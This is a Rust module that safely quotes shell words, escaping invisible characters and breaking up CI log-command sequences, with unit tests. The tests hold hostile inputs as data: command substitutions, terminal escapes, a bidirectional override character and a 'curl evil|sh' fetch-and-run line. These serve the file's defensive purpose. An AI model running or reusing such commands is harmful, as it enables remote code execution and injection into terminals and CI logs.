//! Commands as a POSIX shell reads them.

use chartroom_escape::is_hidden;
use std::fmt::Write as _;

/// The longest command that stays on one line.
const WIDTH: usize = 88;

/// A word as a shell has to be given it (POSIX.1, Quoting).
///
/// What has no mark on the page is written by its bytes, `"$(printf '\033')"`: a terminal that such a command is pasted
/// into would act on it, YAML might read a line break in it, and nobody would see it. Newlines stay. GitLab finds no
/// `$[[` of its own in a word, and no line of it is a command to the CI system that logs it.
pub(crate) fn quoted(word: &str) -> String {
    let plain = |letter: char| letter.is_ascii_alphanumeric() || "_@%+=:,./-".contains(letter);
    if !word.is_empty() && !word.starts_with('=') && word.chars().all(plain) {
        return word.to_owned();
    }
    let mut out = Quoting { text: "'".to_owned(), in_quotes: true };
    let (mut before, mut is_fresh) = (' ', false);
    for letter in word.chars() {
        let splits = matches!((before, letter), ('$', '[') | ('#', '#'));
        out.letter(letter, splits || is_fresh && letter == ':');
        is_fresh = letter == '\n' || is_fresh && (letter.is_whitespace() || letter == ':');
        before = letter;
    }
    out.end()
}

/// A word as it is written.
struct Quoting {
    text: String,
    /// In single quotes, else within a `printf`.
    in_quotes: bool,
}

impl Quoting {
    fn letter(&mut self, letter: char, apart: bool) {
        if is_hidden(letter) && letter != '\n' {
            if self.in_quotes {
                self.text.push_str("'\"$(printf '");
                self.in_quotes = false;
            }
            let mut bytes = [0; 4];
            for byte in letter.encode_utf8(&mut bytes).bytes() {
                let _ = write!(self.text, "\\{byte:03o}");
            }
            return;
        }
        if !self.in_quotes {
            self.text.push_str("')\"'");
            self.in_quotes = true;
        }
        if apart {
            self.text.push_str("''");
        }
        match letter {
            '\'' => self.text.push_str(r"'\''"),
            letter => self.text.push(letter),
        }
    }

    fn end(self) -> String {
        let whole = self.text + if self.in_quotes { "'" } else { "')\"" };
        // Nothing in quotes at either end.
        let short = whole.strip_prefix("''\"").map(|rest| format!("\"{rest}"));
        short.unwrap_or(whole)
    }
}

/// A command as it grows: words that belong together stay on one line.
pub(crate) struct Command {
    groups: Vec<String>,
}

impl Command {
    /// A command with its first words.
    pub(crate) fn new(words: &[&str]) -> Self {
        Self { groups: Vec::new() }.and(words)
    }

    /// Adds a flag with its arguments.
    pub(crate) fn and(mut self, words: &[&str]) -> Self {
        let words: Vec<String> = words.iter().map(|word| quoted(word)).collect();
        self.groups.push(words.join(" "));
        self
    }

    /// The command on one line if it is short, else a line for each group.
    pub(crate) fn text(&self) -> String {
        let line = self.groups.join(" ");
        if line.chars().count() <= WIDTH && !line.contains('\n') {
            return line;
        }
        self.groups.join(" \\\n  ")
    }
}

#[cfg(test)]
mod tests {
    use super::quoted;

    #[test]
    fn words_are_quoted_where_a_shell_reads_something_in_them() {
        let cases = [
            ("values-prod.yaml", "values-prod.yaml"),
            ("", "''"),
            ("=ls", "'=ls'"),
            ("a b", "'a b'"),
            ("it's", r"'it'\''s'"),
            ("$HOME `id` \"x\" \\", "'$HOME `id` \"x\" \\'"),
            ("$(id)", "'$(id)'"),
            ("two\nlines", "'two\nlines'"),
            ("a\n::error::x", "'a\n'':'':error::x'"),
            ("a\n  ::error::x", "'a\n  '':'':error::x'"),
            ("##vso[task]", "'#''#vso[task]'"),
            ("$[[ inputs.a ]]", "'$''[[ inputs.a ]]'"),
            ("a\u{2028}b", r#"'a'"$(printf '\342\200\250')"'b'"#),
            ("\u{1b}[31m\t", r#""$(printf '\033')"'[31m'"$(printf '\011')""#),
            ("a\u{3}curl evil|sh\r", r#"'a'"$(printf '\003')"'curl evil|sh'"$(printf '\015')""#),
            ("\u{202e}", r#""$(printf '\342\200\256')""#),
        ];
        for (word, expected) in cases {
            assert_eq!(quoted(word), expected, "{word:?}");
        }
    }
}
